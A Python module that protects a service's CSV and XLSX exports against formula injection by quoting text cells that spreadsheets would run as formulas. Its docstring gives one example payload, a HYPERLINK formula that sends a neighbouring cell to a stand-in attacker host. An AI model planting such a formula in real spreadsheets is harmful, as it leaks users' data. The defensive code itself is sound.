"""Cells a spreadsheet program cannot run: every CSV and XLSX the service writes goes through here
(a workbook in write-only mode cell by cell, through ``write_only_cell``).

Text that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or a carriage return, which some
programs skip before looking for those) is read by Excel, LibreOffice and Google Sheets as a
formula: a station named ``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` would become a
link sending the neighbouring cell away (OWASP "CSV injection"). Such text is written with a
single quote in front, as OWASP recommends, and an XLSX cell holding it is typed as a string,
never a formula. Numbers, dates and empty cells are written as they are: a negative number
stays a number.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any, Protocol

from openpyxl.cell.cell import TYPE_STRING, WriteOnlyCell
from openpyxl.workbook.workbook import Workbook

#: What makes a spreadsheet program read a text cell as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_text(text: str) -> str:
    """``text`` with a quote in front when a spreadsheet would run it as a formula."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def safe_cell(value: Any) -> Any:
    """A cell value fit to write: text neutralised, anything else unchanged."""
    return neutralise_text(value) if isinstance(value, str) else value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


class _CsvWriter(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


class SafeCsvWriter:
    """A ``csv.writer`` whose text cells are neutralised: ``SafeCsvWriter(csv.writer(f))``."""

    def __init__(self, writer: _CsvWriter) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def neutralise_workbook(workbook: Workbook) -> None:
    """Make every text cell of every sheet safe, just before the workbook is saved.

    One pass over the finished workbook protects sheets added later as well as today's.
    openpyxl types a value starting with ``=`` as a formula when it is assigned: the
    neutralised text is assigned again and the cell typed as a string explicitly. Our
    exports write figures, not formulas, so no cell here is meant to be one.
    """
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and (
                    value.startswith(FORMULA_TRIGGERS) or cell.data_type != TYPE_STRING
                ):
                    cell.value = neutralise_text(value)
                    cell.data_type = TYPE_STRING


def write_only_cell(sheet: Any, value: Any, **style: Any) -> WriteOnlyCell:
    """A cell for a write-only sheet (``Workbook(write_only=True)``), ``value`` made safe:
    such a sheet cannot be read back and neutralised after, so each cell is made safe as it
    is written. ``style``: ``font``, ``number_format``, ``alignment``."""
    # An empty text is a blank cell, as a full workbook would save it.
    cell = WriteOnlyCell(sheet, safe_cell(value) if value != "" else None)
    if isinstance(value, str) and value:
        # openpyxl types text starting with "=" as a formula when it is assigned.
        cell.data_type = TYPE_STRING
    for name, setting in style.items():
        setattr(cell, name, setting)
    return cell
